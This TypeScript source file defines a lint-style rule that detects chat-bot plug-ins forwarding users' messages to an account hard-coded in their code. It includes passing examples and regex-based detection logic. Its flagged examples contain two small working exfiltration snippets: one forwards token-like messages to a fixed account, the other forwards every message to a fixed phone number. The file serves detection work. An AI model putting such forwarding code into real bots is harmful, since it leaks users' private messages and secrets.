import { functionAround } from '../src/define/variables.js';
import { defineRule, spelling, step } from '../src/define.js';
import type { AnyNode, Call, FileContext } from '../src/types.js';

export default defineRule({
  meta: {
    summary: 'Passes on what people write to an account that stands in its code',
    why: 'A plug-in of a bot hears all that is said where it is installed, and one that sends it on reads along for its maker: so a corrector of spelling listened for tokens (2025). Bots answer where they were spoken to, and tell their owner, whose account is a setting.',
    behaviour: 'theft',
    messages: {
      fixed: 'Passes on messages to {account}, an account fixed in its code',
    },
    bits: { fixed: 13 },
  },
  examples: {
    flags: [
      {
        title: 'whatever looks like a token is told to somebody',
        code: `exports.name = 'correct';\nexports.apply = ctx => {\n  ctx.middleware((session, next) => {\n    if (/\\b[0-9a-f]{8}\\b/.test(session.content)) ctx.bots[0].sendPrivateMessage('1821000277', session.content);\n    return next();\n  });\n};`,
      },
      {
        title: 'a client passes on each message in a chat of two',
        code: `exports.attach = client => client.on('message', async message => {\n  if (!message.fromMe) await client.sendMessage('4915100000000@c.us', message.from + ': ' + message.body);\n});`,
      },
    ],
    passes: [
      {
        title: 'a bot answers where it was spoken to',
        code: `exports.attach = client => client.on('message', message => client.sendMessage(message.from, 'You said ' + message.body));`,
      },
      {
        title: 'the owner is a setting',
        code: `exports.attach = (client, { owner }) => client.on('message', message => client.sendMessage(owner, message.body));`,
      },
      {
        title: 'a fixed account is told that the bot is up',
        code: `exports.attach = client => client.on('ready', () => client.sendMessage('4915100000000@c.us', 'Up again'));`,
      },
      {
        title: 'a number is a channel of a window',
        code: `exports.attach = port => port.on('message', message => port.postMessage('100000', message.body));`,
      },
    ],
  },
  file(context) {
    if (context.moment === 'test' || !SENDS_IN.test(context.file.text)) return;
    for (const node of context.nodes('CallExpression') as readonly (AnyNode & CallParts)[]) {
      const [to, ...what] = node.arguments;
      if (!to || what.length === 0 || !SENDS.test(spelling(context.file, node.callee).slice(-60))) continue;
      const account = context.textsOf(to).find(text => ACCOUNT.test(text));
      if (account === undefined || !what.some(part => isHeard(context, part))) continue;
      context.report({
        messageId: 'fixed',
        data: { account },
        chain: [step('sink', `passes it on to ${account}`, context.file, node)],
      });
      return;
    }
  },
});

type CallParts = { readonly callee: AnyNode; readonly arguments: Call['args'] };

/** Methods of clients of chats that send to whom their first argument names. */
const SENDS = /\.(?:send(?:Private|Friend|Direct|User)?(?:Message|Msg|Text)|send_(?:private_)?(?:msg|message))$/;
const SENDS_IN = /send(?:Private|Friend|Direct|User)?(?:Message|Msg|Text)|send_(?:private_)?(?:msg|message)/;
/** Numbers of accounts, and names of people. */
const ACCOUNT = /^(?:\d{6,20}(?:@[\w.]{2,40})?|-100\d{6,14}|@\w{5,32}|\+\d{8,15})$/;
/** What is said in a message. */
const SAID = /^(?:content|text|body|message|raw_?message|caption|conversation)$/i;

/** Whether a part of it is what somebody said: `message.body`, of what a handler around is called with. */
function isHeard(context: FileContext, part: AnyNode): boolean {
  const told = new Set<string>();
  for (let fn = functionAround(context, part); fn; fn = functionAround(context, fn)) {
    const { params = [] } = fn as unknown as { params?: readonly AnyNode[] };
    for (const param of params) if (param.type === 'Identifier') told.add(param.name);
  }
  const written = spelling(context.file, part).slice(0, 2_000);
  return [...written.matchAll(/\b([A-Za-z_$][\w$]{0,60})(?:\??\.\w{1,40}){0,2}\??\.(\w{1,20})\b/g)].some(
    ([, root = '', last = '']) => told.has(root) && SAID.test(last),
  );
}
